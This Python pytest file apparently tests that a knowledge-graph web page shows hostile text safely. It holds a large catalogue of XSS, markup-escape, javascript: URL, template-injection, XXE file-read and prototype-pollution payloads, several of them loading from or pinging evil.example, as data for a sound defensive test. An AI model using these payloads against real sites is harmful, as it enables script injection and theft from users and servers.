"""Text from documents that would act in a page that took it for markup, script or address."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest

from kg.views.model import (  # fmt: skip
    Arrangement,
    CitedFact,
    CitedSource,
    Counts,
    Edge,
    Fold,
    Mark,
    Network,
    Node,
)
from kg.views.page import render

pytestmark = pytest.mark.browser

HERE = Path(__file__).parent

#: The Big List of Naughty Strings (licence beside it).
NAUGHTY: list[str] = json.loads((HERE.parent / "data" / "naughty-strings.json").read_text("utf-8"))

#: Ours, by the place that each tries to leave or to act in.
PAYLOADS: dict[str, list[str]] = {
    "elements": [
        "<script>PWNED()</script>",
        "<ScRiPt >PWNED()</sCrIpT >",
        "<script/x>PWNED()</script>",
        "<script\n>PWNED()</script\t>",
        "<<script>PWNED()//<</script>",
        "<script src=https://evil.example/x.js></script>",
        "<script src=data:,PWNED()></script>",
        "<script type=module>PWNED()</script>",
        "<svg><script>PWNED()</script></svg>",
        "<svg><script href=data:,PWNED() /></svg>",
        "<svg/onload=PWNED()>",
        "<svg><animate onbegin=PWNED() attributeName=x dur=1s>",
        "<svg><set onbegin=PWNED() attributeName=x>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>PWNED()</script></svg>#x'>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.PWNED()</script>'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=PWNED()>",
        "<math href=javascript:PWNED()>click</math>",
        "<img src=x onerror=PWNED()>",
        "<img src=x onerror='PWNED()'//",
        "<img/src='x'/onerror=PWNED()>",
        "<image src=x onerror=PWNED()>",
        "<img srcset=x onerror=PWNED()>",
        "<audio src=x onerror=PWNED()>",
        "<video><source onerror=PWNED()></video>",
        "<video src=x onloadstart=PWNED()>",
        "<iframe srcdoc='<script>parent.PWNED()</script>'>",
        "<iframe src=javascript:parent.PWNED()>",
        "<object data=javascript:PWNED()>",
        "<embed src=javascript:PWNED()>",
        "<applet code=x>",
        "<body onload=PWNED()>",
        "<body onpageshow=PWNED()>",
        "<details open ontoggle=PWNED()>",
        "<dialog open onclose=PWNED()><form method=dialog><button autofocus>x",
        "<input autofocus onfocus=PWNED()>",
        "<select autofocus onfocus=PWNED()>",
        "<textarea autofocus onfocus=PWNED()>",
        "<marquee onstart=PWNED()>",
        "<isindex type=image src=x onerror=PWNED()>",
        "<a href='javascript:PWNED()'>href</a>",
        "<a href='https://evil.example/' ping='https://evil.example/ping' id=panel>x</a>",
        "<form action=javascript:PWNED()><button id=find>x",
        "<button popovertarget=x onbeforetoggle=PWNED()>x</button><div popover id=x>y</div>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/x>",
        "<link rel=dns-prefetch href=//evil.example>",
        "<noscript><p title='</noscript><img src=x onerror=PWNED()>'>",
        "<template><script>PWNED()</script></template>",
        "<template shadowrootmode=open><img src=x onerror=PWNED()></template>",
        "<plaintext>",
        "<xmp><img src=x onerror=PWNED()></xmp>",
        "<title>PWNED</title>",
        "<frameset onload=PWNED()><frame src=x>",
    ],
    "out of an element": [
        "</script><script>PWNED()</script>",
        "</script ><script >PWNED()</script >",
        "</SCRIPT><svg onload=PWNED()>",
        "</title><script>PWNED()</script>",
        "</style><script>PWNED()</script>",
        "</textarea><script>PWNED()</script>",
        "</noscript><script>PWNED()</script>",
        "</template><script>PWNED()</script>",
        "</p></li></ul></aside></main><script>PWNED()</script>",
        "</svg></math><script>PWNED()</script>",
        "<!--<script>PWNED()",
        "--><script>PWNED()</script><!--",
        "--!><img src=x onerror=PWNED()>",
        "<![CDATA[<script>PWNED()</script>]]>",
        "]]><script>PWNED()</script>",
        "<?xml version='1.0'?><script>PWNED()</script>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    ],
    "attributes": [
        '"><script>PWNED()</script>',
        "'><script>PWNED()</script>",
        '" onmouseover="PWNED()',
        "' onmouseover='PWNED()",
        '" autofocus onfocus="PWNED()" x="',
        "` onfocus=`PWNED()` autofocus",
        "x onerror=PWNED() y=",
        '" style="background:url(https://evil.example/x)',
        '" srcdoc="<script>parent.PWNED()</script>',
        "&quot; onmouseover=&quot;PWNED()",
    ],
    "addresses": [
        "javascript:PWNED()",
        "JaVaScRiPt:PWNED()",
        " javascript:PWNED()",
        "java\tscript:PWNED()",
        "java\nscript:PWNED()",
        "\x01javascript:PWNED()",
        "javascript://https://a.example/%0aPWNED()",
        "https:javascript:PWNED()",
        "data:text/html,<script>PWNED()</script>",
        "data:text/html;base64,PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+",
        "vbscript:PWNED()",
        "file:///etc/passwd",
        "blob:https://evil.example/x",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https://a.example/'onclick='PWNED()",
        'https://a.example/"><script>PWNED()</script>',
        "https://a.example/#\" onclick=\"PWNED()",
        "#node=javascript:PWNED()",
    ],
    "scripts and JSON": [
        "];PWNED();[",
        '"}];PWNED();//',
        "'];PWNED();//",
        "\\\");PWNED();//",
        "*/PWNED()/*",
        "//\nPWNED()",
        "\u2028PWNED()//\u2029",
        "\\u2028PWNED()",
        "\\u003cscript\\u003ePWNED()\\u003c/script\\u003e",
        "\\x3cscript\\x3ePWNED()",
        '{"__proto__": {"ran": 1}}',
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "${PWNED()}",
        "`${PWNED()}`",
        "$&$1$`",
        "%PWNED%",
    ],
    "styles": [
        "<style>@import 'https://evil.example/x.css'</style>",
        "</style><style>*{background:url(https://evil.example/x)}</style>",
        "x:expression(PWNED())",
        "url(javascript:PWNED())",
        "}*{display:none}",
        "\";} body{visibility:hidden} x{\"",
        "-moz-binding:url(https://evil.example/x)",
    ],
    "templates": [
        "{{constructor.constructor('PWNED()')()}}",
        "{{7*7}}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__ }}",
        "{# comment #}",
        "{%raw%}<script>PWNED()</script>{%endraw%}",
        "<%= PWNED() %>",
        "#{PWNED()}",
        "[[PWNED()]]",
        "<?php PWNED() ?>",
    ],
    "characters": [
        "&lt;script&gt;PWNED()&lt;/script&gt;",
        "&#60;script&#62;PWNED()&#60;/script&#62;",
        "&#x3c;img src=x onerror=PWNED()&#x3e;",
        "＜script＞PWNED()＜/script＞",
        "+ADw-script+AD4-PWNED()+ADw-/script+AD4-",
        "\ufeff<script>PWNED()</script>",
        "<scr\x00ipt>PWNED()</script>",
        "\u202egnp.exe\u202c",
        "\x00\x01\x1b]0;PWNED\x07",
        "\ufffe\uffff",
        "\r\n\r\n<script>PWNED()</script>",
        "A" * 3_000,
        "🦊" * 40,
        "é́́́́́́́́́́" * 20,
        " ",
        "\t",
    ],
}  # fmt: skip
OURS = [text for some in PAYLOADS.values() for text in some]
HOSTILE = list(dict.fromkeys([*OURS, *filter(None, NAUGHTY)]))
KINDS = (
    "council",
    "inspection",
    "inspector",
    "leader",
    "programme",
    "theme",
    "organisation",
    "other",
)


def hostile() -> Network:
    """Every text in every place of a network that takes text."""
    nodes, edges = [], []
    for i, text in enumerate(HOSTILE):
        fact = CitedFact(
            text, text, text, CitedSource(text, text, text, paged=True, when=text), 1, text
        )
        nodes.append(
            Node(
                f"{text}{i}", KINDS[i % len(KINDS)], f"{text} {i}", text, text, (text,), text, text,
                region=text, x=i % 30 * 90, y=i // 30 * 90, rank=i, facts=(fact,),
            )
        )  # fmt: skip
        if i:
            kind = "theme" if nodes[i].kind == "theme" else "link"
            edges.append(
                Edge(nodes[i - 1].iri, nodes[i].iri, kind, text, Counts(1, 1, 1, 1), (fact,), 3)
            )
    pairs = tuple((text, text) for text in HOSTILE)
    places = {node.iri: (node.x, node.y) for node in nodes}
    layouts = tuple(
        Arrangement(text, text, text, places, (Mark("x", 0, 0, text), Mark("y", 0, 90, text)))
        for text in OURS[:2]
    )
    folds = (Fold(nodes[7].iri, (), 3, OURS[0], OURS[1]),)
    return Network(
        tuple(nodes), tuple(edges), tuple(HOSTILE), (nodes[0].iri, nodes[1].iri), pairs, pairs,
        folds, layouts,
    )  # fmt: skip


#: What did not come out of the panel as it went in, text by text.
EACH = """(texts) => {
  const wrong = [];
  const panel = document.querySelector("#panel");
  texts.forEach((text, i) => {
    kg.select(kg.nodes[i]);
    const head = panel.querySelector("h2").textContent;
    if (head !== `${text} ${i}`) wrong.push(["name", i, head]);
    for (const row of panel.querySelectorAll("details.link")) row.open = true;
    const quotes = [...panel.querySelectorAll("blockquote p")].map((one) => one.textContent);
    if (!quotes.includes(text)) wrong.push(["quote", i]);
    if (!panel.querySelector(".iri").textContent.startsWith(text)) wrong.push(["IRI", i]);
    for (const link of panel.querySelectorAll("a[href]")) {
      if (!/^https?:$/.test(link.protocol)) wrong.push(["link", i, link.href]);
      link.addEventListener("click", (event) => event.preventDefault());
    }
  });
  return wrong;
}"""
#: Elements that only a text taken for markup could have made; the page has three scripts itself.
MADE = "script:not([type]), iframe, img, object, embed, base, link, math, video, audio, frame, meta[http-equiv=refresh]"


def test_ours_are_more_than_a_hundred() -> None:
    assert len(set(OURS)) == len(OURS)
    assert len(OURS) >= 150
    assert len(HOSTILE) > 600


def test_hostile_text_is_shown_and_never_acts(opener: Any) -> None:
    title = "</title><script>PWNED()</script>"
    opened = opener(render(hostile(), title))
    page = opened.page
    # A script that got through would run a function of the page, or change its title.
    page.evaluate("() => { window.ran = 0; window.PWNED = () => { window.ran += 1; }; }")
    assert page.title() == title
    assert page.evaluate("kg.nodes.length") == len(HOSTILE)
    assert page.evaluate("kg.shown().nodes.size") == len(HOSTILE)
    assert page.evaluate(EACH, OURS) == []
    page.wait_for_timeout(300)
    assert page.evaluate("Object.prototype.ran") is None
    for i in (3, 12):
        page.evaluate("(i) => kg.selectEdge(kg.edges[i])", i)
    page.evaluate("kg.selectPath(kg.nodes[0], kg.nodes[9])")
    page.evaluate("kg.clear()")
    for text in ("script", "javascript:", "{{", "\u202e"):
        page.fill("#find", text)
    page.click("#filter")
    assert page.locator("#by-source option").count() > 400
    page.select_option("#by-source", index=5)
    page.select_option("#by-region", index=9)
    page.keyboard.press("Escape")
    assert page.locator("#chips button").count() == 2
    page.click("#reset")
    for table in ("things", "links"):
        page.evaluate("(table) => kg.change({table})", table)
        rows = page.locator("#table tbody tr")
        wanted = len(HOSTILE) - (table == "links")
        opened.until(f"document.querySelectorAll('#table tbody tr').length === {wanted}")
        assert rows.count() == wanted
        column = {"things": "th button", "links": "q"}[table]
        shown = page.evaluate(
            "(column) => [...document.querySelectorAll(`#table tbody ${column}`)].map((one) => one.textContent)",
            column,
        )
        texts = [f"{t} {i}" for i, t in enumerate(HOSTILE)] if table == "things" else HOSTILE[1:]
        assert sorted(shown) == sorted(texts)
    page.evaluate("kg.change({table: ''})")
    page.mouse.move(700, 450)
    page.wait_for_timeout(100)
    assert page.locator(MADE).count() == 3, "the page's own three scripts"
    assert page.evaluate("window.ran") == 0
    assert page.title() == title
    assert opened.asked == []
    assert opened.errors == []


def test_hostile_text_stays_text_in_files(opener: Any, tmp_path: Path) -> None:
    opened = opener(render(hostile(), "T"))
    page = opened.page
    turtle, picture = tmp_path / "x.ttl", tmp_path / "x.svg"
    for item, target in (("Turtle", turtle), ("SVG", picture)):
        page.keyboard.press("s")
        with page.expect_download() as download:
            page.locator("#saves .item", has_text=item).click()
        download.value.save_as(target)
    triples = list(ox.parse(turtle.read_bytes(), format=ox.RdfFormat.TURTLE))
    label = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    named = {
        q.object.value
        for q in triples
        if q.predicate == label and isinstance(q.subject, ox.NamedNode)
    }
    assert named == {f"{text} {i}" for i, text in enumerate(HOSTILE)}
    # Opened as a page of its own, where no policy holds it, the picture runs nothing.
    page = opener.browser.new_page()
    page.add_init_script("window.ran = 0; window.PWNED = () => { window.ran += 1; };")
    page.goto(picture.as_uri())
    assert page.evaluate("document.querySelectorAll('text').length") > 20
    assert page.evaluate("document.querySelectorAll('script, foreignObject, [onload]').length") == 0
    assert page.evaluate("window.ran") == 0
    page.close()


@pytest.mark.parametrize(
    "hash_",
    [
        "#node=<script>PWNED()</script>",
        "#layout=__proto__&region=<img src=x onerror=PWNED()>&source=a,b",
    ],
)
def test_hostile_addresses(opener: Any, overview: bytes, hash_: str) -> None:
    opened = opener(overview, hash_)
    assert opened.page.locator(MADE).count() == 3
    assert opened.errors == []
    assert opened.count == 13 or "region" in hash_
